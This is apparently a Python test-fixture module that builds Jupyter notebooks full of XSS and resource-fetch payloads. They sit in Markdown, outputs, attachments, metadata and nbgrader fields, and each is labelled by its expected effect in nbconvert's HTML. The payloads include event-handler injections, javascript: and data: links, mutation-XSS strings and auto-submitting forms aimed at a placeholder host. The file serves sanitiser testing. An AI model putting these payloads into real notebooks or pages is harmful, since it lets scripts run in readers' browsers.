"""Notebooks that try to make a browser run, fetch or imitate something.

Each has an effect in nbconvert's HTML: it "runs" a script when the page opens, "asks" an address
for something, runs one by a "click", or does nothing "here" but might elsewhere.
"""

import base64
import io

from PIL import Image

RUN = "alert(1)"
ASK = "http://ask.test/"
FRAME = f"<script>fetch('{ASK}')</script>"


def _base64(text):
    return base64.b64encode(text.encode()).decode()


def _png():
    file = io.BytesIO()
    Image.new("RGB", (2, 2), "red").save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


PNG = _png()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{RUN}</script></svg>'


def notebook(*cells, **metadata):
    return {"cells": list(cells), "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def markdown(source, **more):
    return {"cell_type": "markdown", "id": "m", "metadata": {}, "source": source, **more}


def raw(source, **metadata):
    return {"cell_type": "raw", "id": "r", "metadata": metadata, "source": source}


def code(*outputs, source="1", count=1, id="c", **metadata):
    return {
        "cell_type": "code",
        "id": id,
        "metadata": metadata,
        "source": source,
        "outputs": list(outputs),
        "execution_count": count,
    }


def output(kind, data, **metadata):
    return {"output_type": "display_data", "data": {kind: data}, "metadata": metadata}


def result(kind, data, count=1):
    return {**output(kind, data), "output_type": "execute_result", "execution_count": count}


IN_HTML = {  # as raw HTML in Markdown, and as an output of type text/html
    "script": (f"<script>{RUN}</script>", "runs"),
    "script from elsewhere": (f"<script src='{ASK}x.js'></script>", "asks"),
    "script in capitals": (f"<ScRiPt >{RUN}</sCrIpT>", "runs"),
    "image with a handler": (f"<img src=x: onerror={RUN}>", "runs"),
    "svg with a handler": (f"<svg onload={RUN}></svg>", "runs"),
    "svg with a script": (f"<svg><script>{RUN}</script></svg>", "runs"),
    "svg animate": (f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>", "runs"),
    "svg animates a link": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "here",
    ),
    "svg use": (f"<svg><use href='{ASK}a.svg#x'></use></svg>", "here"),
    "svg image": (f"<svg><image href='{ASK}a.png'/></svg>", "asks"),
    "svg foreignObject": (
        f"<svg><foreignObject><img src=x: onerror={RUN}></foreignObject></svg>",
        "runs",
    ),
    "details opened": (f"<details open ontoggle={RUN}><summary>a</summary></details>", "runs"),
    "focus": (f"<input autofocus onfocus={RUN}>", "runs"),
    "animation's end": (
        f"<style>@keyframes a{{}}</style><b style='animation:a 1ms' onanimationend={RUN}>x</b>",
        "runs",
    ),
    "frame": (f"<iframe src='{ASK}f'></iframe>", "asks"),
    "frame with its document": (f'<iframe srcdoc="<script>{RUN}</script>"></iframe>', "runs"),
    "frame by javascript:": (f"<iframe src=javascript:{RUN}></iframe>", "runs"),
    "frame by data:": (
        f"<iframe src='data:text/html;base64,{_base64(FRAME)}'></iframe>",
        "asks",
    ),
    "object": (f"<object data='{ASK}o'></object>", "asks"),
    "object by data:": (
        f"<object data='data:text/html;base64,{_base64(FRAME)}'></object>",
        "here",
    ),
    "embed": (f"<embed src='{ASK}e'>", "asks"),
    "form": (f"<form action='{ASK}'><input name=a><button>go</button></form>", "here"),
    "form sent by itself": (
        f"<form action='{ASK}' id=f></form><img src=x: onerror=f.submit()>",
        "asks",
    ),
    "button with formaction": (f"<form><button formaction=javascript:{RUN}>go", "here"),
    "refresh": (f'<meta http-equiv="refresh" content="0;url={ASK}">', "asks"),
    "base": (f"<base href='{ASK}'><img src=b.png>", "asks"),
    "style sheet": (f"<link rel=stylesheet href='{ASK}s.css'>", "asks"),
    "import": (f"<style>@import url({ASK}i.css);</style>", "asks"),
    "background": (f"<style>body{{background:url({ASK}b.png)}}</style>", "asks"),
    "background of an element": (f"<p style='background:url({ASK}p.png)'>x</p>", "asks"),
    "cover over the page": (
        f"<a href='{ASK}' style='position:fixed;inset:0;z-index:9' class='full-credit'>x</a>",
        "here",
    ),
    "picture from elsewhere": (f"<img src='{ASK}p.png'>", "asks"),
    "picture by srcset": (f"<img srcset='{ASK}p.png 1x'>", "asks"),
    "sound": (f"<audio src='{ASK}a.mp3' autoplay></audio>", "asks"),
    "film's poster": (f"<video poster='{ASK}v.png'></video>", "asks"),
    "link by javascript:": (f"<a href='javascript:{RUN}'>x</a>", "click"),
    "link in disguise": (f"<a href=' &#106;av&#x09;ascript&colon;{RUN}'>x</a>", "click"),
    "link that reports": (f"<a href='#' ping='{ASK}ping'>x</a>", "here"),
    "names over the page's own": ("<img name=getElementById><form id=body></form>", "here"),
    "mathematics with a link": (
        f"<math><mrow href='javascript:{RUN}'><mi>x</mi></mrow></math>",
        "here",
    ),
    "mutation by noscript": (
        f"<noscript><p title='</noscript><img src=x: onerror={RUN}>'></noscript>",
        "here",
    ),
    "mutation by math and style": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        f"onerror={RUN}&gt;'>",
        "here",
    ),
    "comment that ends early": (f"<!--><img src=x: onerror={RUN}>-->", "runs"),
    "template": (f"<template><script>{RUN}</script></template>", "here"),
    "custom elements": (f"<x-a onclick={RUN} style=display:block>x</x-a>", "here"),
    "leaves its place": ("</div></div></div></div></div><h1>Not from here</h1>", "here"),
}
PAYLOADS = {
    **{f"markdown: {name}": (notebook(markdown(x)), does) for name, (x, does) in IN_HTML.items()},
    **{
        f"output: {name}": (notebook(code(output("text/html", x))), does)
        for name, (x, does) in IN_HTML.items()
    },
    "markdown link": (
        notebook(markdown(f"[x](javascript:{RUN.replace('(', '%28')[:-1]}%29)")),
        "click",
    ),
    "markdown link with entities": (notebook(markdown("[x](&#106;avascript:alert`1`)")), "click"),
    "markdown link by reference": (
        notebook(markdown("[x][r]\n\n[r]: javascript:alert`1`")),
        "click",
    ),
    "markdown autolink": (notebook(markdown(f"<javascript:{RUN}>")), "click"),
    "markdown data link": (
        notebook(markdown(f"[x](data:text/html;base64,{_base64(FRAME)})")),
        "here",
    ),
    "markdown picture": (notebook(markdown(f"![x]({ASK}m.png)")), "asks"),
    "markdown picture of this server": (notebook(markdown("![x](/hub/logout)")), "here"),
    "markdown picture by reference": (notebook(markdown(f"![x][r]\n\n[r]: {ASK}r.png")), "asks"),
    "markdown title": (notebook(markdown("[x](#a '\" onmouseover=alert(1) a=\"')")), "here"),
    "mermaid": (notebook(markdown(f"```mermaid\n</pre><img src=x: onerror={RUN}>\n```")), "runs"),
    "heading": (notebook(markdown(f"# a <img src=x: onerror={RUN}>")), "runs"),
    "table": (notebook(markdown(f"| a |\n|---|\n| <img src=x: onerror={RUN}> |")), "runs"),
    "over several lines": (
        notebook(markdown(f"<img\nsrc=x:\n\n\nonerror={RUN}>\n<img src=x:\nonerror={RUN}>")),
        "runs",
    ),
    "missing attachment": (notebook(markdown("![x](attachment:none.png)")), "here"),
    "attachment in svg": (
        notebook(
            markdown(
                "![x](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": _base64(SVG)}}
            )
        ),
        "here",
    ),
    "attachment that breaks out": (
        notebook(
            markdown(
                "![x](attachment:a.png)",
                attachments={"a.png": {f'image/png"><img src=x: onerror={RUN}>': "AAAA"}},
            )
        ),
        "here",
    ),
    "formula with a link": (notebook(markdown(r"$\href{javascript:alert(1)}{x}$")), "here"),
    "formula with a style": (
        notebook(markdown(r"$$\style{background:url(//ask.test)}{x}$$")),
        "here",
    ),
    "formula with a class": (
        notebook(code(output("text/latex", r"$\class{full-credit}{x}$"))),
        "here",
    ),
    "formula in HTML": (
        notebook(code(output("text/html", r"<p>$\hr<wbr>ef{javascript:x}{y}$</p>"))),
        "here",
    ),
    "handler after a slash": (
        notebook(code(output("text/html", f"<img src='x:'/onerror={RUN}>"))),
        "runs",
    ),
    "raw, a tag made by what is taken out": (
        notebook(raw(f"<\\style>@import url({ASK}i.css);</style>")),
        "here",
    ),
    "raw": (notebook(raw(f"<script>{RUN}</script>")), "here"),
    "raw as HTML": (notebook(raw(f"<img src=x: onerror={RUN}>", raw_mimetype="text/html")), "here"),
    "javascript": (notebook(code(output("application/javascript", RUN))), "here"),
    "javascript that ends its script": (
        notebook(code(output("application/javascript", f"</script><script>{RUN}</script>"))),
        "runs",
    ),
    "svg output": (notebook(code(output("image/svg+xml", SVG))), "here"),
    "markdown output": (notebook(code(output("text/markdown", f"<script>{RUN}</script>"))), "runs"),
    "mermaid output": (
        notebook(code(output("text/vnd.mermaid", f"</pre><img src=x: onerror={RUN}>"))),
        "here",
    ),
    "isolated html": (
        notebook(code(output("text/html", FRAME, **{"text/html": {"isolated": True}}))),
        "asks",
    ),
    "widget": (
        notebook(
            code(output("application/vnd.jupyter.widget-view+json", {"model_id": "a", "x": 1})),
            widgets={
                "application/vnd.jupyter.widget-state+json": {
                    "state": {"a": {"model_name": f"</script><script>{RUN}</script>", "state": {}}},
                    "version_major": 2,
                    "version_minor": 0,
                }
            },
        ),
        "here",
    ),
    "vega": (
        notebook(code(output("application/vnd.vega.v5+json", {"data": [{"url": ASK}]}))),
        "here",
    ),
    "plotly": (notebook(code(output("application/vnd.plotly.v1+json", {"data": []}))), "here"),
    "unknown type": (notebook(code(output(f"a/<img src=x: onerror={RUN}>", "x"))), "here"),
    "picture that breaks out": (
        notebook(code(output("image/png", f'AAAA"><img src=x: onerror={RUN}>'))),
        "here",
    ),
    "picture that is HTML": (notebook(code(output("image/png", _base64(FRAME)))), "here"),
    "picture's file name": (
        notebook(code(output("image/png", PNG, filenames={"image/png": f"{ASK}n.png"}))),
        "asks",
    ),
    "picture's width": (
        notebook(code(output("image/png", PNG, **{"image/png": {"width": f"1 onload={RUN}"}}))),
        "runs",
    ),
    "count": (notebook(code(count=f"<img src=x: onerror={RUN}>")), "here"),
    "tag": (notebook(code(tags=[f'"><img src=x: onerror={RUN}>'])), "here"),
    "id": (notebook(code(id=f'"><img src=x: onerror={RUN}>')), "here"),
    "language": (
        notebook(code(), language_info={"name": f'"><img src=x: onerror={RUN}>'}),
        "here",
    ),
    "language of magics": (
        notebook(code(magics_language=f'"><img src=x: onerror={RUN}>')),
        "here",
    ),
    "kernel": (notebook(code(), kernelspec={"name": f"<script>{RUN}</script>"}), "here"),
    "title": (notebook(code(), title=f"</title><script>{RUN}</script>"), "here"),
    "nbgrader's marks": (
        notebook(
            code(
                nbgrader={
                    "grade": True,
                    "grade_id": f'"><img src=x: onerror={RUN}>',
                    "points": f"<img src=x: onerror={RUN}>",
                    "comment": f"<script>{RUN}</script>",
                }
            )
        ),
        "here",
    ),
    "stream": (
        notebook(
            code(
                {
                    "output_type": "stream",
                    "name": f'"><img src=x: onerror={RUN}>',
                    "text": f"\x1b]8;;javascript:{RUN}\x07<script>{RUN}</script>\x1b[31m\u202e",
                }
            )
        ),
        "here",
    ),
    "error": (
        notebook(
            code(
                {
                    "output_type": "error",
                    "ename": f"<script>{RUN}</script>",
                    "evalue": f"<script>{RUN}</script>",
                    "traceback": [f"<script>{RUN}</script>", 3, None],
                }
            )
        ),
        "here",
    ),
    "code": (notebook(code(source=f"'</pre><script>{RUN}</script>'\n# <!-- <img src=x:>")), "here"),
    "cell of no known type": (
        notebook({"cell_type": RUN, "source": f"<script>{RUN}</script>"}),
        "here",
    ),
}


def together():
    """All cells of all of them in one notebook."""
    cells = [cell for content, _ in PAYLOADS.values() for cell in content["cells"]]
    return notebook(*cells)
